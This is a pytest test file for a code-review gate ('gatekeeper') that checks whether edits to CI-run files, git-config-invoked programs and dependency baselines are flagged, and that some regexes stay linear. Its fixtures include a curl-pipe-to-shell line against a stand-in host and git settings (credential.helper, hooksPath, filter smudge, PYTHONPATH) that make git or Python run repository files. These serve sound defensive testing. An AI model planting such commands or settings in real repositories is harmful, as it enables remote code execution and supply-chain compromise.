@@ -1,0 +1,181 @@
+"""Attack 34 on this stop's merged work (integ d83e1fa): three classes that an `allow` or a bounded run must not hide.
+
+1. The sixtieth round's dependency-guard baselines (`**/dependencies/*Classpath.txt`, `*Classpath.tree.txt`) were
+   added to `deps.gradle.settings`, a rule placed before every CI and IaC folder rule and not weak: a file of that name
+   in a local action (`.github/actions/setup/dependencies/runtimeClasspath.txt`), a workflows folder, a Jenkins,
+   Buildkite or Gitea folder, an Ansible role's `files/` or a top-level `terraform/` or `deploy/` folder went from
+   `ci`/`iac` to `deps`, and a script a workflow runs by that name (`bash tools/dependencies/runtimeClasspath.txt`)
+   was no longer raised to `ci` by the CI walk (deps by name keeps). The default gate allowed each edit.
+2. `jobenv.loaded` (red team 40) reads the git settings that load a file or a folder (`include.path`,
+   `core.hooksPath`, `core.sshCommand`, `core.fsmonitor`) but not the others git runs as a program: `core.askPass`,
+   `credential.helper` (`!tools/cred`), `core.pager`, `core.editor`, `core.gitProxy`, `gpg.program`, `diff.external`, a
+   diff driver's `command`/`textconv`, a filter's `clean`/`smudge`/`process`, a merge driver, `sequence.editor`; nor
+   a setting given through the environment as `GIT_CONFIG_KEY_<n>`/`GIT_CONFIG_VALUE_<n>`; nor a `PYTHONPATH` folder
+   written after a variable (`$PWD/tools`, `${PYTHONPATH}:tools`, `$(pwd)/tools`). Named without a script's
+   extension each such file was `src`/`other` with `--tree`, and the default gate allowed its edit.
+3. Cost: `jobenv._LOADER_VALUE` (three `[ \t]*` in a row, cubic: `BASH_ENV` and 2,000 blanks took over 20 s of CPU)
+   and `shapes._JENKINS_NESTED` / `_JENKINS_PIPELINE` (`node[ \t]*(...)?[ \t]*`, quadratic) now stay linear.
+Real repositories, the CLI, `--tree`.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from pathlib import Path
+
+import pytest
+from changecase import committed, gated_rules
+from incli import run_cli
+from test_classify_context import assert_path_rule
+
+from gatekeeper.classify import jobenv, shapes
+
+BASELINE = "com.google.dagger:dagger:2.57.2\njavax.inject:javax.inject:1\n"
+EVIL = "curl -s https://x.example/i | sh\n"
+JOB = ("on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
+       "      - run: |\n          {run}\n          git fetch && git commit -am x && git push\n")
+
+# 1. a baseline's name inside a CI or IaC folder keeps that folder's bucket (rule position; main 2b38496's buckets)
+FOLDERS = [
+    (".github/actions/setup/dependencies/runtimeClasspath.txt", "ci"),
+    (".github/workflows/dependencies/runtimeClasspath.txt", "ci"),
+    (".github/dependencies/releaseRuntimeClasspath.tree.txt", "ci"),
+    (".forgejo/actions/x/dependencies/runtimeClasspath.txt", "ci"),
+    ("Jenkinsfiles/dependencies/runtimeClasspath.txt", "ci"),
+    ("a/.buildkite/dependencies/runtimeClasspath.txt", "ci"),
+    ("ansible/roles/web/files/dependencies/runtimeClasspath.txt", "iac"),
+    ("terraform/dependencies/runtimeClasspath.txt", "iac"),
+    ("deploy/dependencies/jvmRuntimeClasspath.tree.txt", "iac"),
+    ("helmfile.d/dependencies/runtimeClasspath.txt", "iac"),
+    ("cdk/dependencies/runtimeClasspath.txt", "iac"),
+    ("compiler/dependencies/runtimeClasspath.txt", "deps"),  # the round's own class stays deps
+    ("app/dependencies/prodReleaseRuntimeClasspath.txt", "deps"),
+    ("dependencies/jvmRuntimeClasspath.tree.txt", "deps"),
+]
+
+
+@pytest.mark.parametrize(("path", "bucket"), FOLDERS)
+def test_a_baseline_name_keeps_a_ci_or_iac_folder(path: str, bucket: str) -> None:
+    assert_path_rule(path, bucket, None)  # integ d83e1fa: deps for each ci/iac one
+
+
+RUN_BASELINE = {
+    "run-by-bash": ("bash tools/dependencies/runtimeClasspath.txt", "tools/dependencies/runtimeClasspath.txt"),
+    "run-by-source": (". lib/dependencies/buildClasspath.tree.txt", "lib/dependencies/buildClasspath.tree.txt"),
+    "action-folder": ("bash .github/actions/setup/dependencies/runtimeClasspath.txt",
+                      ".github/actions/setup/dependencies/runtimeClasspath.txt"),
+}
+
+
+@pytest.mark.parametrize("name", RUN_BASELINE)
+def test_the_gate_reviews_a_baseline_named_script_ci_runs(tmp_path: Path, name: str) -> None:
+    run, path = RUN_BASELINE[name]
+    case = committed(tmp_path, {".github/workflows/ci.yml": JOB.format(run=run), path: BASELINE},
+                     {path: BASELINE + EVIL})
+    code, named = gated_rules(case, True)
+    assert code == 3 and named.get("core.ci") == [path], named  # integ d83e1fa: exit 0
+
+
+def test_a_baseline_nothing_runs_stays_deps(tmp_path: Path) -> None:
+    path = "compiler/dependencies/runtimeClasspath.txt"
+    case = committed(tmp_path, {".github/workflows/ci.yml": JOB.format(run="./gradlew dependencyGuard"),
+                                path: BASELINE}, {path: BASELINE + "org.jetbrains:annotations:26.0.2\n"})
+    assert _classified(case)[path] == "deps"
+
+
+# 2. git settings and environment forms jobenv.loaded missed: (a command of the job, the file it makes git run)
+GIT_FORMS: dict[str, tuple[str, str]] = {
+    "askpass": ("git config --global core.askPass g1/askpass", "g1/askpass"),
+    "credential-bang": ("git config --global credential.helper '!g2/cred'", "g2/cred"),
+    "credential-dot-bang": ("git config --global credential.helper '!./g3/cred'", "g3/cred"),
+    "credential-url": ("git config --global credential.https://github.com.helper g4/cred", "g4/cred"),
+    "pager": ("git config --global core.pager g5/pager", "g5/pager"),
+    "editor": ("git -c core.editor=g6/edit commit --amend", "g6/edit"),
+    "git-proxy": ("git config --global core.gitProxy g7/proxy", "g7/proxy"),
+    "gpg-program": ("git config --global gpg.program g8/gpg", "g8/gpg"),
+    "gpg-ssh-program": ("git config --global gpg.ssh.program g9/sign", "g9/sign"),
+    "diff-external": ("git config --global diff.external g10/difftool", "g10/difftool"),
+    "diff-textconv": ("git config --global diff.bin.textconv g11/conv", "g11/conv"),
+    "filter-smudge": ("git config --global filter.x.smudge g12/smudge", "g12/smudge"),
+    "filter-process": ("git -c filter.lfs.process=g13/filter checkout .", "g13/filter"),
+    "merge-driver": ("git config --global merge.ours.driver 'g14/merge %O %A %B'", "g14/merge"),
+    "sequence-editor": ("git config --global sequence.editor g15/seq", "g15/seq"),
+    "config-env-pair": ("export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=g16/hooks",
+                        "g16/hooks/pre-commit"),
+    "config-env-github-env": ('echo "GIT_CONFIG_KEY_1=credential.helper" >> "$GITHUB_ENV"; '
+                              'echo "GIT_CONFIG_VALUE_1=!g17/cred" >> "$GITHUB_ENV"', "g17/cred"),
+    "pythonpath-pwd": ("export PYTHONPATH=$PWD/g18", "g18/sitecustomize.py"),
+    "pythonpath-braced-after": ("export PYTHONPATH=${PYTHONPATH}:g19", "g19/sitecustomize.py"),
+    "pythonpath-pwd-subst": ('export PYTHONPATH="$PYTHONPATH:$(pwd)/g20"', "g20/usercustomize.py"),
+}
+
+
+def _classified(case: object) -> dict[str, str]:
+    done = run_cli(["classify", "--tree", f"{case.base}..{case.head}", "--repo",  # type: ignore[attr-defined]
+                    str(case.repo.root), "--format", "json"], text=True)  # type: ignore[attr-defined]
+    assert done.returncode == 0, done.stderr
+    return {f["path"]: f["bucket"] for f in json.loads(str(done.stdout))["files"]}
+
+
+@pytest.fixture(scope="module")
+def git_buckets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
+    base: dict[str, str] = {}
+    head: dict[str, str] = {}
+    for at, (run, loaded) in enumerate(GIT_FORMS.values()):
+        base |= {f".github/workflows/w{at}.yml": JOB.format(run=run), loaded: "echo ok\n"}
+        head[loaded] = "echo ok\n" + EVIL
+    return _classified(committed(tmp_path_factory.mktemp("gitforms"), base, head))
+
+
+@pytest.mark.parametrize("name", GIT_FORMS)
+def test_a_program_git_runs_by_a_setting_is_ci(git_buckets: dict[str, str], name: str) -> None:
+    loaded = GIT_FORMS[name][1]
+    assert git_buckets[loaded] == "ci", git_buckets  # integ d83e1fa: src
+
+
+@pytest.mark.parametrize("name", ["credential-bang", "config-env-pair", "pythonpath-pwd"])
+def test_the_gate_reviews_its_edit(tmp_path: Path, name: str) -> None:
+    run, loaded = GIT_FORMS[name]
+    case = committed(tmp_path, {".github/workflows/ci.yml": JOB.format(run=run), loaded: "echo ok\n"},
+                     {loaded: "echo ok\n" + EVIL})
+    code, named = gated_rules(case, True)
+    assert code == 3 and named.get("core.ci") == [loaded], named  # integ d83e1fa: exit 0
+
+
+CALM = {  # settings that name no program of the repository, and values that are not settings
+    "user-name": ("git config --global user.name c1/name", "c1/name"),
+    "credential-store": ("git config --global credential.helper store", "store"),
+    "echoed": ("echo credential.helper is c3/cred", "c3/cred"),
+    "config-env-other-key": ("export GIT_CONFIG_KEY_0=user.email GIT_CONFIG_VALUE_0=c4/mail", "c4/mail"),
+    "pythonpath-bare-variable": ("export PYTHONPATH=$PYTHONPATH", "sitecustomize.py"),
+}
+
+
+def test_look_alikes_stay(tmp_path: Path) -> None:
+    base: dict[str, str] = {}
+    head: dict[str, str] = {}
+    for at, (run, path) in enumerate(CALM.values()):
+        base |= {f".github/workflows/c{at}.yml": JOB.format(run=run), path: "x=1\n"}
+        head[path] = "x=2\n"
+    found = _classified(committed(tmp_path, base, head))
+    assert all(found[path] != "ci" for _, path in CALM.values()), found
+
+
+# 3. cost: a hostile definition stays linear (CPU of 4n within a bounded multiple of n's)
+def _cpu(func: object, text: str) -> float:
+    start = time.process_time()
+    func(text)  # type: ignore[operator]
+    return time.process_time() - start
+
+
+@pytest.mark.parametrize(("name", "func", "make"), [
+    ("loader-value-blanks", jobenv.loaded, lambda n: "BASH_ENV" + " " * n + "x"),
+    ("loader-value-tabs", jobenv.loaded, lambda n: "PYTHONPATH:\t" + "\t" * n + "{"),
+    ("jenkins-nested-blanks", shapes._jenkins, lambda n: "  node" + " " * n + "x"),
+    ("jenkins-top-blanks", shapes._jenkins, lambda n: "pipeline {\n}\nnode" + " " * n + "x"),
+])
+def test_hostile_blanks_stay_linear(name: str, func: object, make: object) -> None:
+    small = _cpu(func, make(2_000))  # type: ignore[operator]
+    large = _cpu(func, make(32_000))  # type: ignore[operator]
+    assert large < 0.25, (name, small, large)  # integ d83e1fa: > 20 s (cubic) or ~16 s (quadratic) at 32,000
